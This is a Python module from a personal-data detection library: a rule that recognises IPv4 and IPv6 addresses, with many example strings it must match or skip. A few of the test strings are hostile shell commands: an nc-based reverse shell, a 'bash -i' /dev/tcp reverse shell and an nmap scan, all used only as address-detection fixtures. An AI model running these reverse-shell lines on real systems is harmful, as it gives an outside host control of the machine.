"""IPv4 and IPv6 addresses of any range; not versions, OIDs, section numbers, netmasks, wildcards, scopes or slices."""

from collections.abc import Iterator, Sequence
from socket import AF_INET6, inet_pton

from pii import expressions as re
from pii.detectors.rules.base import Rule
from pii.detectors.scan import Hit
from pii.labels import Label
from pii.spans import Span
from pii.text.surroundings import line_after, text_before
from pii.text.versions import is_version

_IPV4 = re.compile(r"\d{1,3}(?P<dot>\.|\\&\.|\[\.\]|\\\.)\d{1,3}(?:(?P=dot)\d{1,3}){2}", re.ASCII)
"""Manual pages write the dot as `\\&.`, expressions as `\\.`, and reports of attacks as `[.]`."""
_FOUR_NUMBERS = frozenset({"ip.dotted", "ip.troff", "ip.defanged", "ip.expression"})
_NEAR = 12
"""Characters before an address that say what it is: an escape, a packet, an attribute."""
_DRAWN_BEFORE = re.compile(r"(?<![\d.])\d*\.?\d+[ ,-]$|[a-zA-Z,]-?$")
_DRAWN_AFTER = re.compile(r"[,-]-?\d*\.?\d+[,a-zA-Z-]")
"""Coordinates of a path, written without blanks: `2.21,6.51.85.85,0,0`."""
_PORT_AFTER = re.compile(r"\.\d{1,5}(?=[:,)]? ?>|: |,|$|\s)")
_PORT_AFTER_V6 = re.compile(r"(?<=[0-9a-f:])\.\d{1,5}:?$")
_SOCKET = re.compile(r"^(?:tcp|udp)(?:4|6|46)?[ \t]+\d+[ \t]+\d+[ \t]+\S*(?:[ \t]+)?$")
"""Up to an address in a list of sockets, as netstat(8) prints it."""
_ROW = 80
_PACKET_BEFORE = re.compile(r"(?:\bIP6? | > )$")
_IPV6_RUN = re.compile(r"[0-9A-Fa-f:.]+")
_IPV6_CHARACTERS = "0123456789abcdefABCDEF:."

_NETWORK_WORD = re.compile(
    r"ipaddr|_ip|ip_|addr|host|network|subnet|inet|server|gateway|listen|bind|proxy|rout(?:e|ing)|client|cidr|whois|://"
    r"|remote|forward|dhcp|socket|connect|iface|interface|\bping|dns|\bdoh"
)
_WHOLE_NETWORK_WORD = re.compile(
    r"\b(?:(?:ips?|ipv[46]|net|gw|mask|deny|allow|nat|vpn|lan|wan|via|dst|src|local)\b|peer|tcp|udp)"
)
"""Both match lower-cased text: `re` is faster where it need not fold case."""
_WELL_KNOWN = frozenset({"1.2.3.4", "5.6.7.8", "4.3.2.1", "8.8.4.4", "1.0.0.1", "4.2.2.1", "4.2.2.2"})
"""Well-known addresses of small numbers."""
_WORDS = frozenset({"dead", "beef", "cafe", "babe", "face", "feed", "fade", "ace", "add", "bad", "bed", "dad", "fed"})


def find(text: str, hits: Sequence[Hit]) -> Iterator[Span]:
    """Yields the addresses around the hits."""
    done = run_end = 0
    for hit in hits:
        if hit.start < done:
            continue
        if hit.pattern in _FOUR_NUMBERS:
            place = _ipv4(text, hit)
        else:
            start = _start_of_run(text, hit)
            if start >= run_end:  # a run may be the whole text, without an address at any of its hits
                run = _IPV6_RUN.match(text, start)
                run_end = run.end() if run else start
            place = _ipv6(text, hit, start, run_end)
        if place is None:
            continue
        start, end, address = place
        done = end
        if address:
            yield Span(start, end, Label.IP_ADDRESS)


def _ipv4(text: str, hit: Hit) -> tuple[int, int, bool] | None:
    start = hit.start
    while start > 0 and start > hit.start - 4 and text[start - 1] in "0123456789":
        start -= 1
    if text[start - 1 : start] == "%" and hit.start - start > 1:
        start += 2  # %2010.1.2.3
    match = _IPV4.match(text, start)
    if match is None:
        return None
    end = match.end()
    before, after = text[start - 1 : start], text[end : end + 2]
    gateway = before == "." and _GATEWAY_BEFORE.search(text, start - _NEAR, start)
    if _is_letter(after[:1]) or after[:1] == "_" or before == "_" or before == "." and not gateway:
        return None
    if _is_letter(before) and not _escaped(text, start):
        return None
    if after[:1] == "." and (after[1:].isdigit() or after[1:] == "*"):
        port = _PORT_AFTER.match(text, end)
        if port is None or not (
            text.startswith(" > ", port.end())
            or _PACKET_BEFORE.search(text_before(text, start, _NEAR))
            or _SOCKET.search(text_before(text, start, _ROW).rpartition("\n")[2])
        ):
            return None
    return start, end, _plausible(text, start, end, match["dot"])


_GATEWAY_BEFORE = re.compile(r"[/-]ip\.$")
"""How networks of channels write the host of a client that comes from the web: `gateway/web/ip.10.1.2.3`."""


def _is_letter(character: str) -> bool:
    """Whether the character would make the number part of a word or of a longer number: a letter of Latin, any digit. Words of
    other scripts stand right beside: `узел172.20.5.8`, `主机10.2.3.4已断开`."""
    return character.isalnum() and (character < _AFTER_LATIN or character.isdecimal())


_AFTER_LATIN = "\u0370"
"""Greek begins here; before it come the letters of Latin and the signs beside them."""


_ESCAPED = re.compile(
    r"[\\`][nrt]$|\\f[BIRP]$|%[0-9A-Fa-f]{2}$|\\u[0-9a-fA-F]{4}$|\\x[0-9a-fA-F]{2}$|\x1b\[[\d;]{0,8}m$"
)


def _escaped(text: str, start: int) -> bool:
    r"""Whether the letter before is an escape: "\n10.0.0.1", "`n10.0.0.1" of PowerShell, %2F10.0.0.1, \fB10.0.0.1 of manuals."""
    return _ESCAPED.search(text_before(text, start, _NEAR)) is not None


_LONGEST_PATH = 4_000
_PATH_NAMED = re.compile(r"(?:\bd|points|path|pathData)\\?=\\?$")


def _is_drawn(text: str, start: int) -> bool:
    """Whether the numbers stand in the attribute of a drawing: `d="m3 1.23.82.72"`."""
    quote = text.rfind('"', max(0, start - _LONGEST_PATH), start)
    return quote >= 0 and _PATH_NAMED.search(text, quote - _NEAR, quote) is not None


_NEEDED = re.compile(
    r"(?:\b(?:requires?|needs?|version|runtime|build)\b[^\n]{0,24})(?:>=|<=|~>|=>|\^|~) ?v?$", re.IGNORECASE
)
"""What something needs is a version: `needs runtime >= 10.0.22.1`."""


def _plausible(text: str, start: int, end: int, dot: str) -> bool:
    octets = text[start:end].split(dot)
    numbers = [int(octet) for octet in octets]
    zeros = [octet for octet in octets if octet[0] == "0" and octet != "0"]
    padded = bool(zeros) and all(len(octet) == 3 for octet in octets)  # 010.001.002.003
    if max(numbers) > 255 or zeros and not padded:
        return False
    if _is_netmask(numbers) or not any(numbers) or _is_object_identifier(numbers):
        return False
    if dot == "\\.":
        return text[start:end].count("\\") == 3 and max(numbers) > 31
    if (
        is_version(text, start, end)
        or _NEEDED.search(text, max(0, start - _NEAR), start)
        or _DRAWN_BEFORE.search(text_before(text, start, _NEAR))
        and _DRAWN_AFTER.match(text, end)
        or _is_drawn(text, start)
    ):
        return False
    if _is_rather_a_version(numbers) and ".".join(octets) not in _WELL_KNOWN and not padded and dot != "[.]":
        folder = text[start - 1 : start] == "/" and text[start - 2 : start] not in ("", "//")
        if folder and not text.endswith(_SOCKETS_OF_BASH, 0, start):
            return False  # a folder of a site's downloads
        # Something on the line must speak of a network.
        after = text[end : end + 2]
        line = text_before(text, start).rpartition("\n")[2]
        around = line + text[end : line_after(text, end)]
        return after[:1] in ("/", ":") and after[1:].isdigit() or _speaks_of_network(around)
    return True


_SOCKETS_OF_BASH = ("/dev/tcp/", "/dev/udp/")
"""Files by whose names Bash connects to a host: `/dev/tcp/HOST/PORT`."""


def _is_object_identifier(numbers: Sequence[int]) -> bool:
    """Whether the numbers are arcs of X.500 or of the internet."""
    return numbers[:3] in ([2, 5, 4], [2, 5, 29]) or numbers[:2] == [1, 3] and numbers[2] == 6


def _is_rather_a_version(numbers: Sequence[int]) -> bool:
    first, greatest = numbers[0], max(numbers)
    small = first < 10 and greatest < 64 or first < 32 and first != 10 and greatest < 40
    return (small or first == 0 or first < 10 and numbers[1] < 10) and len(set(numbers)) > 1


def _speaks_of_network(line: str) -> bool:
    small = line.lower()
    found = _NETWORK_WORD.search(small) or _WHOLE_NETWORK_WORD.search(small)
    return found is not None or "IP" in line or "Ip" in line


def _is_netmask(octets: list[int]) -> bool:
    """Whether the address is the mask of a network, or that of its hosts, as access lists of routers have it."""
    value = int.from_bytes(bytes(octets))
    inverted = value ^ 0xFFFFFFFF
    return (
        octets[0] == 255 and inverted & (inverted + 1) == 0 or octets[0] == 0 and value > 1 and value & (value + 1) == 0
    )


def _start_of_run(text: str, hit: Hit) -> int:
    """Where the digits and colons around the hit begin, or 45 characters before its first colon."""
    place = text.index(":", hit.start)
    window = text_before(text, place, 45)
    return place - len(window) + len(window.rstrip(_IPV6_CHARACTERS))


def _ipv6(text: str, hit: Hit, start: int, end: int) -> tuple[int, int, bool] | None:
    if start > 3 and text.startswith("[IPv6:", start - 4):
        start += 2  # the tag of an address literal (RFC 5321)
    before = text[start - 1 : start]
    if (_is_letter(before) or before == "_") and not _escaped(text, start):
        return None
    port = _PORT_AFTER_V6.search(text, start, end)
    if port and (text.startswith(" > ", end) or _PACKET_BEFORE.search(text_before(text, start, _NEAR))):
        end = port.start()
    while text[start] == "." or text[start] == ":" and text[start + 1 : start + 2] != ":":
        start += 1
    while text[end - 1] == "." or text[end - 1] == ":" and text[end - 2 : end - 1] != ":":
        end -= 1
    if mapped := _MAPPED.match(text, start, end) or _WITH_PORT.match(text, start, end):
        end = mapped.end("address")
    elif (
        (listed := _LISTED.match(text, start, end))
        and "::" in listed["address"]
        and _SOCKET.search(text_before(text, start, _ROW).rpartition("\n")[2])
    ):
        end = listed.end("address")
    after = text[end : end + 1]
    value = text[start:end]
    if _is_letter(after) or after == "_" or not 3 <= len(value) <= 45:
        return start, max(end, hit.end), False
    try:
        address = int.from_bytes(inet_pton(AF_INET6, value))
    except OSError:
        return start, max(end, hit.end), False
    masked = _is_ipv6_mask(address) and not (address >> 96 and _LENGTH.match(text, end))
    return start, end, not masked and _looks_like_ipv6(text, start, end, value)


_MAPPED = re.compile(r"(?P<address>[0-9a-fA-F:]+:\d+\.\d+\.\d+\.\d+):\d{1,5}\Z")
"""An address of the fourth version in the sixth, and its port."""
_WITH_PORT = re.compile(r"(?P<address>::1(?=:\d{2,5}\Z)|[0-9a-fA-F:]{3,45}(?=:\d{5}\Z)):")
"""A port has five digits as often as not, a group of an address four at most; none but the loopback address begins `::1:`."""
_LISTED = re.compile(r"(?P<address>[0-9a-fA-F:]{2,44}[0-9a-fA-F]):\d{1,5}\Z")
"""With its port, as Linux lists sockets."""
_LENGTH = re.compile(r"/\d{1,3}(?!\d)")
"""Of a network, whose address may be all ones at its start: `fc00::/7`."""


def _is_ipv6_mask(value: int) -> bool:
    """Whether the address is the wildcard, or a mask of a network or of its hosts (`::1` is none)."""
    inverted = value ^ (2**128 - 1)
    return value == 0 or inverted & (inverted + 1) == 0 or value >= 1 << 32 and value & (value + 1) == 0


_CLOSED = re.compile(r"\](?::\d{1,5})?[\"']")
"""Behind an address that a literal holds in brackets, perhaps with its port: `"[::1]:80"`."""
_HOST_BEFORE = re.compile(r"(?<![\w.-])(?:(?P<alone>localhost|unknown)|(?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,24})$")
_LONGEST_HOST = 120
_MIXED_GROUP = re.compile(r"(?=\d*[a-fA-F])(?=[a-fA-F]*\d)[0-9a-fA-F]{4}")


def _of_host(text: str, bracket: int, groups: Sequence[str]) -> bool:
    """Whether the bracket follows a host's name, as in the logs of mail servers, and holds what no slice of a list would."""
    host = _HOST_BEFORE.search(text, bracket - _LONGEST_HOST, bracket)
    if host is None:
        return False
    return _MIXED_GROUP.fullmatch(groups[0]) is not None or host["alone"] is not None and groups == ["1"]


_DECIMAL = re.compile(r"[\d:]+")
_MAPPED_CODE = re.compile(r";;|-1:-1|:[io-];")
_MAPPED_REACH = 60
"""Characters to both sides of an entry of such a map in which another is looked for."""


def _is_of_source_map(text: str, start: int, end: int) -> bool:
    """Whether the numbers are an entry of a source map of Solidity, `start:length:file:jump:depth`, of which fields that stay
    are left out: `684:22:31::1;-1:-1:-1::0;;`."""
    around = text[max(0, start - _MAPPED_REACH) : end + _MAPPED_REACH]
    return _DECIMAL.fullmatch(text, start, end) is not None and _MAPPED_CODE.search(around) is not None


_LISTED_BEFORE = re.compile(r"\d\.\d{1,3}[\"']?, ?$")
"""An address before this one in a list: `[127.0.0.1, ::1]`."""


def _looks_like_ipv6(text: str, start: int, end: int, value: str) -> bool:
    groups = [group for group in value.split(":") if group]
    before, after = text_before(text, start, 2), text[end : end + 1]
    if before.endswith(";") and after in (";", "-", "") and _is_of_source_map(text, start, end):
        return False
    if "::" not in value:
        return not all(len(group) == 2 for group in groups)  # a hardware address of eight bytes
    if before[-1:] in "$@%&>" and before and not (before[-1:] in ">@" and after in "<:/]"):
        return False  # a scope of Perl, PHP or Tcl
    if after == "(":
        return False
    quoted = before[-1:] != "" and before[-1:] in "\"'`" and after != "" and after in "\"'`/%"
    bracketed = before[-1:] == "[" and after in ("]", "%") and not (before[:1].isalnum() or before[:1] in "_])\"'")
    bracketed = bracketed or before[-1:] == "[" and before[:1] in ("'", '"') and _CLOSED.match(text, end) is not None
    marked = quoted or bracketed or after in ("/", "%")
    if before[-1:] == "[" and not bracketed and not marked:
        # No slice has a third part in front of its step, and none is taken of a host: `mx.example.org[2001:db8::5]:25`.
        return after == "]" and (len(groups) > 2 and any(map(str.isdigit, value)) or _of_host(text, start - 1, groups))
    if not any(character.isdigit() for group in groups for character in group):
        longest = max(map(len, groups))
        return marked and groups[0].lower() not in _WORDS and longest == 4 or len(groups) > 2 and longest > 2
    if len(groups) == 1:
        sliced = after == "]" and before[-1:] in (" ", ",")  # rows[:, ::1]
        sliced = sliced and not _LISTED_BEFORE.search(text, start - _NEAR, start)
        return (
            marked
            or value == "::1"
            and not sliced
            or value.endswith("::")
            and len(groups[0]) == 4
            and not groups[0].isdigit()
        )
    if len(groups) == 2 and all(group.isdigit() and len(group) < 3 for group in groups):
        return marked  # 1::2
    if len(groups) == 2 and groups[0].isalpha() and len(groups[1]) < 3:
        return marked  # a::1, a name in a scope
    return True


RULE = Rule(
    "ip",
    {
        "ip.dotted": r"\d\.\d{1,3}\.\d{1,3}\.\d",
        "ip.troff": r"\d\\&\.\d{1,3}\\&\.\d{1,3}\\&\.\d",
        "ip.defanged": r"\d\[\.\]\d{1,3}\[\.\]\d{1,3}\[\.\]\d",
        "ip.expression": r"\d\\\.\d{1,3}\\\.\d{1,3}\\\.\d",
        "ip.groups": r"[0-9a-fA-F]:[0-9a-fA-F]{1,4}:[0-9a-fA-F]{1,4}:[0-9a-fA-F]",
        "ip.leading": r"[^\w:]::[0-9a-fA-F]",
        "ip.gap1": r"\b[0-9a-fA-F]::",
        "ip.gap2": r"\b[0-9a-fA-F]{2}::",
        "ip.gap3": r"\b[0-9a-fA-F]{3}::",
        "ip.gap4": r"\b[0-9a-fA-F]{4}::",
    },
    find,
    hits=(
        "[client «fd7a:c820:1180:c84c::ad3f:d991:ec2e»:49255]",
        'Add-Content hosts "`r`n«127.0.0.1» tool.example.org"',
        "no_proxy=a;«::1»;«2001:470:1::1»;«2001:470:2::5»;b",
        "tcp6       0      0 «::1»:631    :::*    LISTEN\n",
        "tcp6       0     52 «fd2e:7a:1::19»:443      «fd2e:7a:1::c8»:51544    ESTABLISHED\n",
        "peer «fd2e:7a:1::19:443» up",
        "permit ip «10.20.0.0» 0.0.0.63 host «10.9.1.40»; «0.0.0.62»/32 of net; server «0.0.0.1»;",
        "Tabellenserver «10.1.2.3», Anlage: Server «10.1.2.3»",
        "Accepted /«::ffff:10.9.3.77»:41877 (2 open)",
        "tcp4       0      0  «10.1.44.17».49822   «172.16.9.4».443     ESTABLISHED\n",
        "ping «192.0.2.1»",
        "узел«172.20.5.8»недоступен, 主机«10.2.3.4»已断开, 서버«10.2.3.4»에서, الخادم«10.2.3.4»متوقف",
        "bind «127.0.0.1»:8080",
        "«10.1.2.0»/24 and «198.51.100.0»/255.255.255.0",
        "http://«203.0.113.9»/x?ip=«203.0.113.10»",
        '"\\n«10.0.0.1»\\t"',
        "\\fB«10.0.0.0»/8\\fP",
        "«10.0.0.1»-«10.0.0.9»",
        'if host == "«127.0.0.1»":',
        'inet_addr("«1.2.3.4»")',
        "sent from «8.8.4.4».",
        "/ip4/«127.0.0.1»/tcp/4001",
        "listen [«::1»]:80",
        "'«::1»', \"«2001:db8::1»\"",
        "«fe80::1234»%eth0",
        "«2001:db8:85a3:0000:0000:8a2e:0370:7334»",
        "«2001:db8::»/32 and «fd00:1:2::»/48",
        "'«::ffff:192.0.2.15»'",
        "via «fe80::5054:ff:fe3e:4ce» dev eth0",
        "allow «::1»/128",
        "EPRT |2|«1080::8:800:200C:417A»|5282|",
        "('«64:ff9b::»', 1)",
        "IP «10.1.2.3».53 > «10.1.2.4».40123: Flags [S]",
        "IP6 «2001:db8::5».5353 > «ff02::fb».5353: 0 PTR",
        "host.example.org/«10.1.2.3»:21 and /«10.1.2.3»:4001",
        "url=http%3A%2F%2F«10.1.2.3»%2Fx",
        "q=%20«10.1.2.3»",
        ".sp\n«10\\&.1\\&.2\\&.3»",
        "hxxp://«198[.]51[.]100[.]7»/x",
        "allow from ^«192\\.168\\.1\\.7»$",
        "rem_addr «010.001.002.003»",
        "[«::ffff»]",
        "«0::10.1.2.3»",
        "nat «0.1.2.3» src",
        '"peer":"«198.51.100.7»","version":"1.2.3.4"',
        "release 10.1.2.3.4, host «10.1.2.9»",
        "%20«10.1.2.3» and %20«1.2.3.4» and %«10.1.2.3»",
        "host «255.10.1.255», «254.0.0.0», «0.0.0.254»",
        "^«32\\.30\\.1\\.7»$",
        "#alias=«1.2.3.4»,«5.6.7.8»\n# maps «1.2.3.4» to «5.6.7.8»\n",
        "«1.2.3.4»/24 and «1.2.3.5»:80",
        "tool «9.64.1.2», «31.40.1.2», «32.39.1.2», «10.39.1.2», «1.10.99.2» and «5.5.5.5»",
        "\\n«2001:db8:1::2» and \\nfe80::1",
        ":«fe80::1» and «fe80::2»: down. .«fe80::3».",
        "from «fe80::1».53 > b",
        "«0000:0000:0000:0000:0000:ffff:192.168.100.228»",
        ">«fe80::1»< and @«fe80::1»/64",
        "\"«abcd::»\" '«fe80::1»'",
        "x [«1::2»] and [«::2»]",
        "«fe80::»' x",
        "«aaa:bbb::ccc» and «aa:bb::ccc»",
        "«123::45» «12::345» «1::234» «ab::123»",
        "rows[0, «::1», 2] rows[ ::1]",
        "net «1.3.7.1», «1.4.6.1», «2.3.6.1», «2.5.5.1», «2.6.4.1»",
        "host «3.5.4.1», «2.5.30.1», «2.6.29.1», «3.5.29.1»",
        "ip «7.1.6.2»",
        "«198.51.100.7», 198.51.99, https://ipinfo.example/«198.51.100.7»",
        "x::99\nN:«127.0.0.1»:x",
        "'[«::1»]' or \"[«2001:db8::5»]:80\" and ips: [«127.0.0.1», «::1»]",
        "- '«fc00::»/7'",
        "主机«192.168.1.2»通过 «FE80::1234:56FF:FE78:9ABC»通过",
        "jroe (x@gateway/web/example/ip.«198.51.100.7») has joined",
        "nmap -sC -sV «10.1.2.9»",
        "c=cat+/tmp/f|sh+-i+2>%261|nc+«10.9.8.7»+4444+>/tmp/f",
        "bash -i >& /dev/tcp/«10.9.8.7»/4444 0>&1; exec 5<>/dev/udp/«1.2.3.5»/53",
        "«2001:db8:85a3:0000:0000:8a2e:0370:7334», «192.0.2.7»",
        "x «1.2.3.5»/8 x",
        "g..........................................«fe80::1»",
        "'«::ffff:ffff»'",
        "relay=mx.example.org[«2001:db8:a::1:2»]:587, connect from localhost[«::1»], from unknown[«fe80::7»]: x",
        "server mx.example.org[«2001:db8::5»] said: 535, relay=mx.example.org[«fd12::5»]:25",
        "Received: from mx.example.org ([IPv6:«2001:db8::5»])",
    ),
    misses=(
        "узел172.20.5.8.9недоступен, host172.20.5.8已断开, é172.20.5.8, ٣172.20.5.8",
        "172.20.5.8_узел, версия172.20.5.8, 版本172.20.5.8",
        '"sourceMap": "57:204:0:-:0;;;84:22:31::1;-1:-1:-1::0;;;71:2:33;84:22:31::1;62:154:7::0;:11;1504:78::-;4:5"',
        "- needs runtime >= 10.0.22.1",
        "siehe auch Abschnitt 3.2.1.4 und Anlage 1.1.1.1\nTabelle 10.1.2.3: Bestand, annexe 10.1.2.3, см. раздел 10.1.2.3",
        "version 1.2.3.4+5, tool 10.9.8.7+4444, /dev/tool/1.2.3.5/x, /dev/tool/10.9.8.7/x",
        "curl https://example.org/tool/0.1.50.1/x86_64-tool-0.1.50.1",
        "+## [10.107.4.1] - 2026-03-02\n| core | 10.2.0.14 | core-1.12.2-10.2.0.14.jar |",
        "## [10.107.4.1] - 2026-03-02\n### 10.107.4.2\nServer 10.5.5.13 (build 20180112)",
        '<path d="M3 1.23.82.72 0 4"/>',
        "version 1.2.3.4",
        'agent.match(/rv:1.2.3.4/i) == "rv:1.2.3.4"',
        "release 5.6.7.8, 5.6.7.9",
        '[GeneratedCode("Tool", "10.4.4.0 (v12)")]',
        "v1.2.3.4 and openssl-1.0.2.1 and 1.2.3.4-beta",
        "pip install tool==1.0.2.3 'x>=2.3.4.5'",
        'AssemblyVersion("1.0.0.0")',
        "Chrome/71.0.99.98 Safari",
        "tool (1.1.2.1-1) unstable; urgency=low",
        "pkg (4.1.4.84) stable; urgency=medium",
        "OID 1.3.6.1 and 1.3.6.1.4.1.311 and 2.5.4.3 and writeOID('1.3.101.112')",
        "see section 4.2.1.3",
        "EC 3.4.21.4, EC:1.1.1.1 and ec_number=2.7.11.1",
        "// 3.1.2.1. The opt-out flag",
        "1.2.3.4.5 and 256.1.1.1 and 01.02.03.04 and 1.2.3",
        "10.1.2.3.4 and 10.1.2.3.53",
        "mask 255.255.255.0 and 255.0.0.0 and 0.0.0.0",
        "2024.01.02.03",
        "std::vector<int> a; abc::def x; Foo::Bar::baz(); ::std::move",
        "use a::b::c; fe::ad; dead::beef",
        "x[::2], x[1::2], x[:, ::3], x[::1], x[:, ::1]",
        'r"a::bc" and x[a::2]',
        "12:34:56 and 12:34:56:78",
        "00:11:22:33:44:55 and 00:11:22:33:44:55:66:77",
        "a:b:c:d:e:f",
        "p::before, p::after, a::backdrop { }",
        "listen :: and [::]:80 and ::/0",
        "$::a = 1; &main::f0(); @::b",
        "port 6379::",
        "x['a'][::1] and 'fc00::' and zip.10.1.2.3",
        "http-client (0.5.13.1-3) unstable; urgency=medium",
        "host needs 3.0.0.0 or higher, upgrading the server from 0.9.6.1 to 0.11.0, Server~~~~0.0.1.0",
        "'ffff:ffff:ffff:ffff::' '::ffff:ffff:ffff:ffff'",
        "data Foo = 1::Int",
        'oldVersion="0.0.0.0-4.1.0.0" newVersion="4.1.0.0"',
        "tag 12.34.56.78+0800",
        "0-2.21,6.51.85.85,0,0,0,.12.39.84.84,0,0,0",
        "updated the firmware to 7.12.3.1; driver 31.0.15.2802",
        "<FileVersion>10.0.12.7</FileVersion>",
        "libssl3 (= 3.0.2.1~deb12u1), tool_2.36.0.1_amd64.deb, lib.so.10.1.2.3",
        "bad::1 and Int::1 and Foo::DEAD::BEEF and a::1",
        "é10.1.2.3 and \\é10.1.2.3 and a\\nb10.1.2.3",
        "^31\\.30\\.1\\.7$ and ^192\\.168\\.1.7$",
        "gw\nv 1.2.3.5\nhost",
        "tool 9.63.1.2, 31.39.1.2, 0.99.1.2 and 1.9.99.2",
        "net 2.5.4.3, net 2.5.29.17, net 1.3.6.1",
        "g::1 and _::1 and ::1g and fe80::1_ and fe80::1g and _fe80::1 and 7fe80:1::_",
        "0000:0000:0000:0000:0000:ffff:192.168.100.2281",
        "$fe80::1 and >fe80::1 x and %fe80::1 and &fe80::1",
        "x = fe80::1(y)",
        "'cafe::' 'abc::' 'abcd:: abcd::'",
        "abcd::` and 'f::'",
        "a[::1] ][::1] _[::1] )[::1]",
        "rows[fe80::1]",
        "1234:: and fe8:: and 7e8::",
        "aa:bb::cc and a:b::c and aaa::bbb",
        "* [3.7.11.3, 3.7.11, 3.7, 3, latest](https://github.com/jroe/tool/tree/v3.7.11.3) `4.77.1.120`, `4.77.1`",
        "https://github.com/jroe/tool/releases/tag/203.0.113.9 https://github.com/jroe/tool/archive/refs/tags/3.5.18.0",
        "12::34",
        "ab::12 and abc::12",
        "10.1.2.3x/ 10.1.2.3_x 10.1.2.3.*",
        "x 1.2.3.5 7",
        "tool 5.5.5.6",
        "gfe80:1:2:3::4 and _fe80:1:2:3::4",
        "'::1:ffff:ffff'",
        "x = self.rows[1000::25], y.rows[1::2], self.rows[::1], self.rows[face::1], rows[fd12::5]",
        "mx.example.org[a:b::c], [IPv6:prefix], xIPv6:2001:db8::5",
    ),
)
